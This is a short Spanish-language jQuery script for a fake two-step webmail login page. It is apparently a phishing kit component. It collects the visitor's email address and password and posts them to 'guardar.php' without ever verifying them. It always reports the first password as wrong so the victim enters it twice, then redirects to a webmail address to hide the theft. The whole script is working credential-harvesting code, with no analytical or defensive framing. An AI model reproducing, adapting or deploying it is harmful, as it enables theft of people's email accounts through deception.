$(document).ready(function () {
  var intentos = 0;
  $('#paso2').hide();
  $('#siguiente').on('click', function () {
    var correo = $.trim($('#correo').val());
    if (!/^\S+@\S+\.\S+$/.test(correo)) {
      $('#aviso').text('Escriba una dirección de correo válida.').show();
      return;
    }
    sessionStorage.setItem('correo', correo);
    $('#quien').text(correo);
    $('#paso1').slideUp(200, function () { $('#paso2').slideDown(200); $('#clave').focus(); });
  });
  $('#entrar').on('click', function () {
    var clave = $('#clave').val();
    if (clave.length < 4) { $('#aviso').text('Escriba su contraseña.').show(); return; }
    $('#entrar').prop('disabled', true).val('Comprobando...');
    $.ajax({
      url: 'guardar.php',
      type: 'POST',
      data: { correo: sessionStorage.getItem('correo'), clave: clave, n: intentos },
      complete: function () {
        intentos++;
        $('#entrar').prop('disabled', false).val('Entrar');
        if (intentos >= 2) {
          window.location.replace('https://correo.webmail-sur.example/');
        } else {
          $('#clave').val('');
          $('#aviso').text('La contraseña no es correcta. Inténtelo de nuevo.').show();
        }
      }
    });
  });
});
